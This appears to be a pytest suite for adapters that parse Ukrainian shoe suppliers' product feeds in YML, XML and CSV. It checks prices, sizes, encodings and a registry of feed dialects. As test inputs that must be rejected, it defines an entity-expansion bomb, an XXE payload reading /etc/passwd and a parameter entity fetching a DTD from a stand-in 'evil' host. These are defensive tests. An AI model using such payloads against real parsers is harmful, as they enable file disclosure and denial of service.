"""Each dialect adapter against the generated sample feeds and hand-made bad feeds."""

from __future__ import annotations

import gzip
import io
import json
import shutil
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from suppliers.feeds import DIALECTS, FeedAdapter, FeedError, FeedRecord, get_adapter, register

from .conftest import load_truth, parse_supplier

SUPPLIERS = ["kalyna", "vzuttia", "solomoda", "lorena"]


def parse(dialect: str, data: bytes | str, **options):
    adapter = get_adapter(dialect, options)
    raw = data.encode() if isinstance(data, str) else data
    return list(adapter.parse(io.BytesIO(raw))), adapter


def yml(offers: str, currencies: str = '<currency id="UAH" rate="1"/>', head: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{head}<yml_catalog><shop>'
            f"<currencies>{currencies}</currencies>"
            f'<categories><category id="7">Туфлі</category></categories>'
            f"<offers>{offers}</offers></shop></yml_catalog>")


# -- the sample feeds ---------------------------------------------------------

@pytest.mark.parametrize("slug", SUPPLIERS)
def test_adapter_matches_truth(sample_dir, slug):
    records, _ = parse_supplier(sample_dir, slug)
    truth = load_truth(sample_dir)[slug]
    assert set(records) == set(truth)
    for code, row in truth.items():
        record = records[code]
        expected = None if row["price_uah"] is None else Decimal(row["price_uah"])
        assert record.price == expected, code
        if row["old_price_uah"] is not None:
            assert record.old_price == Decimal(row["old_price_uah"]), code
        assert isinstance(record.price, Decimal | None)
        assert sorted(record.sizes_in_stock, key=float) == row["sizes_in_stock"], code
        assert all(v.quantity >= 0 for v in record.variants)
        assert record.available == bool(row["sizes_in_stock"])
        assert len(record.pictures) == row["photos"], code
        assert all(p.startswith("file://") and " " not in p for p in record.pictures)
        assert "&quot;" not in record.name and "&amp;" not in record.name
        assert record.name and record.description


def test_quantities_per_size(sample_dir):
    truth = load_truth(sample_dir)
    for slug in ("kalyna", "solomoda"):  # these feeds state a quantity for every size
        records, _ = parse_supplier(sample_dir, slug)
        for code, row in truth[slug].items():
            assert {v.size: v.quantity for v in records[code].variants} == row["stock"]
    records, _ = parse_supplier(sample_dir, "vzuttia")  # one count per model, spread over sizes
    for code, row in truth["vzuttia"].items():
        if row["sizes_in_stock"]:
            assert sum(v.quantity for v in records[code].variants) == sum(row["stock"].values())


def test_sample_quirks_are_reported(sample_dir):
    truth = load_truth(sample_dir)
    records, adapter = parse_supplier(sample_dir, "kalyna")
    messages = [str(w) for w in adapter.warnings]
    assert any("duplicate offer" in m for m in messages)
    assert any("unknown category" in m for m in messages)
    no_price = [c for c, r in truth["kalyna"].items() if "no_price" in r["quirks"]]
    assert no_price and all(records[c].price is None for c in no_price)
    assert all(any(c in m and "price" in m for m in messages) for c in no_price)
    assert all(r.name_ru and r.category_name for c, r in records.items()
               if "unknown_category" not in truth["kalyna"][c]["quirks"])

    records, adapter = parse_supplier(sample_dir, "vzuttia")
    low = [c for c, r in truth["vzuttia"].items() if "low_oldprice" in r["quirks"]]
    assert low and all(records[c].old_price is None for c in low)
    assert any("old price" in str(w) for w in adapter.warnings)
    hostile = [c for c, r in truth["vzuttia"].items() if "hostile_html" in r["quirks"]]
    assert all("<script>" in records[c].description for c in hostile)  # sanitising is not ours
    assert all(r.currency == "USD" for r in records.values())
    escaped = [c for c, r in truth["vzuttia"].items() if "escaped_name" in r["quirks"]]
    assert escaped and all('"VZUTTIA"' in records[c].name for c in escaped)

    records, _ = parse_supplier(sample_dir, "solomoda")
    first = next(iter(records.values()))
    assert first.category_key.startswith("Взуття/") and "/" not in first.category_name
    assert first.params.keys() >= {"колір", "матеріал", "сезон"}


def test_gzipped_feed_is_read(sample_dir):
    data = gzip.compress((sample_dir / "vzuttia" / "feed.xml").read_bytes())
    records, _ = parse("yml_models", data)
    assert len(records) == len(load_truth(sample_dir)["vzuttia"])


def test_records_stream_before_the_file_is_read(sample_dir):
    class Counting(io.BytesIO):
        def read(self, size=-1):
            chunk = super().read(size)
            self.bytes_read = self.tell()
            return chunk

    data = (sample_dir / "kalyna" / "feed.xml").read_bytes()
    stream = Counting(data)
    first = next(get_adapter("yml_grouped", {"open_groups": 2}).parse(stream))
    assert isinstance(first, FeedRecord)
    assert stream.bytes_read < len(data) * 0.7


# -- dialect details ------------------------------------------------------------

def test_rozetka_currency_conversion():
    offer = ('<offer id="M1" available="true"><price>30.99</price><oldprice>45</oldprice>'
             '<currencyId>USD</currencyId><categoryId>7</categoryId><name_ua>Туфлі</name_ua>'
             '<stock_quantity>7</stock_quantity><param name="Розмір">36-38</param></offer>')
    records, _ = parse("yml_models", yml(offer, '<currency id="UAH" rate="1"/>'
                                                '<currency id="USD" rate="41.5"/>'))
    (record,) = records
    assert record.price == Decimal("1286.09")  # 30.99 * 41.5 = 1286.085, rounded half up
    assert record.old_price == Decimal("1867.50")
    assert record.currency == "USD"
    assert [(v.size, v.quantity) for v in record.variants] == [("36", 3), ("37", 2), ("38", 2)]

    # rates given against another base currency, and a bank name instead of a rate
    base_usd = '<currency id="USD" rate="1"/><currency id="UAH" rate="0.025"/>'
    assert parse("yml_models", yml(offer, base_usd))[0][0].price == Decimal("1239.60")
    nbu = '<currency id="USD" rate="NBU"/>'
    records, adapter = parse("yml_models", yml(offer, nbu))
    assert records[0].price is None and adapter.warnings
    records, _ = parse("yml_models", yml(offer, nbu), rates={"USD": "40"})
    assert records[0].price == Decimal("1239.60")


def test_rozetka_size_lists_and_entities():
    offer = ('<offer id="M2"><price>1 299,00</price><name_ua>Лофери &amp;quot;Віра&amp;quot; '
             '&amp;amp; Ко</name_ua><param name="Розмір">36, 37,5, 39</param></offer>')
    (record,), _ = parse("yml_models", yml(offer))
    assert record.name == 'Лофери "Віра" & Ко'
    assert record.price == Decimal("1299.00")
    assert record.sizes_in_stock == ["36", "37.5", "39"]


def test_grouped_offers_merge_and_external_dtd_is_not_loaded(tmp_path):
    dtd = tmp_path / "shops.dtd"  # were it loaded, every offer would become unavailable
    dtd.write_text('<!ATTLIST offer available CDATA "false">')
    offers = "".join(
        f'<offer id="G-{s}" group_id="G"><price>1 000</price><quantity_in_stock>{q}'
        f'</quantity_in_stock><picture>http://x/a b.jpg</picture><name>Туфли</name>'
        f'<name_ua>Туфлі</name_ua><param name="Размер">{s}</param></offer>'
        for s, q in (("36", 2), ("37", 0)))
    head = f'<!DOCTYPE yml_catalog SYSTEM "{dtd.as_uri()}">'
    (record,), adapter = parse("yml_grouped", yml(offers, head=head))
    assert record.model_code == "G" and record.name == "Туфлі" and record.name_ru == "Туфли"
    assert [(v.size, v.quantity, v.sku) for v in record.variants] == [("36", 2, "G-36"),
                                                                       ("37", 0, "G-37")]
    assert record.pictures == ["http://x/a%20b.jpg"]
    assert record.price == Decimal("1000.00") and record.available


def test_absurd_prices_are_dropped_with_a_warning():
    offers = "".join(f'<offer id="P{i}"><price>{p}</price><name_ua>x</name_ua></offer>'
                     for i, p in enumerate(("0", "-5", "2000000", "abc", "999999.99")))
    records, adapter = parse("yml_models", yml(offers))
    assert [r.price for r in records] == [None] * 4 + [Decimal("999999.99")]
    assert len([w for w in adapter.warnings if "price" in w.message]) >= 4


def test_custom_xml_is_configured_not_coded():
    feed = ('<?xml version="1.0"?><export xmlns="urn:supplier"><product id="P1">'
            '<info><name>Босоніжки</name></info><cost cur="USD">10,50</cost>'
            '<group>Літо &gt; Босоніжки</group><images><img src="http://x/1.jpg"/>'
            '<img src="http://x/1.jpg"/></images><stock><v size="37,5">2</v><v size="38">x</v>'
            '</stock><props><p name="Колір">капучино</p></props></product></export>')
    options = {"item_tag": "product", "code": "@id", "name": "info/name", "price": "cost",
               "currency": "cost@cur", "category": "group", "category_separator": ">",
               "pictures": "images/img@src", "sizes": "stock/v", "size_value": "@size",
               "size_quantity": ".", "attributes": "props/p", "attribute_key": "@name",
               "old_price": "", "rates": {"USD": "40"}, "description": ""}
    (record,), adapter = parse("custom_xml", feed, **options)
    assert record.model_code == "P1" and record.name == "Босоніжки"
    assert record.price == Decimal("420.00") and record.currency == "USD"
    assert record.category_key == "Літо > Босоніжки" and record.category_name == "Босоніжки"
    assert record.pictures == ["http://x/1.jpg"]
    assert record.params == {"Колір": "капучино"}
    assert [(v.size, v.quantity) for v in record.variants] == [("37.5", 2), ("38", 1)]
    assert any("not a number" in w.message for w in adapter.warnings)  # "x" -> default 1

    with pytest.raises(ValueError, match="unknown option"):
        get_adapter("custom_xml", {"item_tgs": "x"})


CSV_HEADER = "Артикул;Назва;Ціна;Розміри;Фото;Наявність;Колір\r\n"


def test_csv_table_values():
    rows = ('A1;"Туфлі ""Ліра""; нові";1 299,00;36,37,38;http://x/1.jpg| http://x/2 b.jpg;так;'
            'чорні\r\nA2;Кеди;1\u00a0050,5;;;ні;\r\nA3;Сліпони;1,299.00;37:2;;yes;\r\n\r\n\r\n')
    records, _ = parse("csv_table", (CSV_HEADER + rows).encode("cp1251"), encoding="cp1251")
    first, second, third = records
    assert first.name == 'Туфлі "Ліра"; нові' and first.price == Decimal("1299.00")
    assert first.sizes_in_stock == ["36", "37", "38"] and first.params == {"Колір": "чорні"}
    assert first.pictures == ["http://x/1.jpg", "http://x/2%20b.jpg"]
    assert second.price == Decimal("1050.50") and not second.available
    assert third.price == Decimal("1299.00") and third.variants[0].quantity == 2


def test_csv_any_delimiter_and_column_map():
    data = "sku,title,cost,stock\nB1,\"Чоботи, зимові\",\"2 500,00\",1\n"
    columns = {"code": "sku", "name": "title", "price": "cost", "available": "stock"}
    (record,), _ = parse("csv_table", data, columns=columns)
    assert record.name == "Чоботи, зимові" and record.price == Decimal("2500.00")


# -- feeds that must be rejected as a whole --------------------------------------

BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
                  "<yml_catalog><shop><offers><offer id='1'><name>&lol2;</name></offer>"
                  "</offers></shop></yml_catalog>")
EXTERNAL_ENTITY = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                   "<catalog><item sku='1'><title>&xxe;</title></item></catalog>")
PARAMETER_ENTITY = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd">'
                    "%p;]><yml_catalog/>")


@pytest.mark.parametrize("dialect, data", [
    ("yml_grouped", BILLION_LAUGHS),
    ("yml_models", BILLION_LAUGHS),
    ("custom_xml", EXTERNAL_ENTITY),
    ("yml_models", PARAMETER_ENTITY),
    ("yml_models", yml("")),  # empty offer list
    ("custom_xml", '<?xml version="1.0"?><catalog></catalog>'),
    ("yml_grouped", ""),
    ("yml_grouped", "<html><body>502 Bad Gateway</body></html>"),
    ("yml_models", yml('<offer id="1"><name_ua>x</name_ua></offer>')[:-40]),  # truncated
])
def test_bad_xml_feeds_are_rejected(dialect, data):
    with pytest.raises(FeedError):
        parse(dialect, data)


@pytest.mark.parametrize("slug", ["kalyna", "vzuttia", "solomoda"])
def test_truncated_sample_feed_is_rejected(sample_dir, slug):
    entry = json.loads((sample_dir / "manifest.json").read_text())["suppliers"][slug]
    data = (sample_dir / entry["file"]).read_bytes()
    with pytest.raises(FeedError, match="truncated"):
        parse(entry["dialect"], data[: len(data) * 2 // 3], **entry["options"])


def test_csv_in_the_wrong_encoding_is_rejected(sample_dir):
    data = (sample_dir / "lorena" / "price.csv").read_bytes()
    with pytest.raises(FeedError, match="not UTF-8, it looks like windows-1251; the supplier says utf-8"):
        parse("csv_table", data, encoding="utf-8", delimiter=";")
    utf8 = data.decode("cp1251").encode("utf-8")
    with pytest.raises(FeedError, match="the file is UTF-8, the supplier says windows-1251"):
        parse("csv_table", utf8, encoding="windows-1251", delimiter=";")


def test_csv_missing_columns_are_named():
    with pytest.raises(FeedError, match="Назва.*Ціна|Ціна.*Назва"):
        parse("csv_table", "Артикул;Опис\nA1;x\n")
    with pytest.raises(FeedError):
        parse("csv_table", CSV_HEADER + "\n\n")  # a header and no rows


# -- the registry ------------------------------------------------------------------

def test_registry_knows_four_dialects_and_accepts_a_fifth():
    assert {"yml_grouped", "yml_models", "custom_xml", "csv_table"} <= set(DIALECTS)
    with pytest.raises(ValueError):
        get_adapter("no-such-dialect")

    @register
    class JsonLines(FeedAdapter):
        dialect = "test_jsonl"

        def parse(self, stream):
            for line in stream:
                yield FeedRecord(model_code=json.loads(line)["id"], name="x")

    try:
        records, _ = parse("test_jsonl", '{"id": "J1"}\n')
        assert records[0].model_code == "J1"
    finally:
        DIALECTS.pop("test_jsonl")


# -- feeds we did not write ------------------------------------------------------------

SHARED_GENERATOR = Path("/work/shared/feeds/generate.py")
SHARED_OPTIONS = {"kalyna": ("yml_grouped", {}), "vzuttia": ("yml_models", {}),
                  "solomoda": ("custom_xml", {}),
                  "lorena": ("csv_table", {"encoding": "cp1251", "delimiter": ";"})}


@pytest.mark.skipif(not SHARED_GENERATOR.exists(), reason="the shared feed generator is absent")
def test_feeds_from_the_shared_generator(tmp_path):
    subprocess.run([sys.executable, str(SHARED_GENERATOR), str(tmp_path), "--models", "60",
                    "--truth"], check=True, capture_output=True)
    manifest = json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8"))
    truth = [json.loads(line) for line in (tmp_path / "truth.jsonl").open(encoding="utf-8")]
    for slug, (dialect, options) in SHARED_OPTIONS.items():
        entry = manifest["suppliers"][slug]
        adapter = get_adapter(dialect, options)
        with open(tmp_path / entry["feed"], "rb") as fh:
            records = list(adapter.parse(fh))
        assert len(records) == entry["models"], slug
        expected = [t for t in truth if t["supplier"] == slug and t.get("in_feed", True)]
        assert len(expected) == len(records)
        by_code = {t["code"]: t for t in expected}
        for record in records:  # their codes carry supplier prefixes ("SM", "VZT", "LR")
            row = next(t for c, t in by_code.items() if record.model_code.endswith(c))
            assert sorted(record.sizes_in_stock, key=float) == [str(s) for s in
                                                                row["sizes_in_stock"]]
            if record.price is not None:
                assert abs(record.price - row["price_uah"]) < 1, record.model_code
    shutil.rmtree(tmp_path)
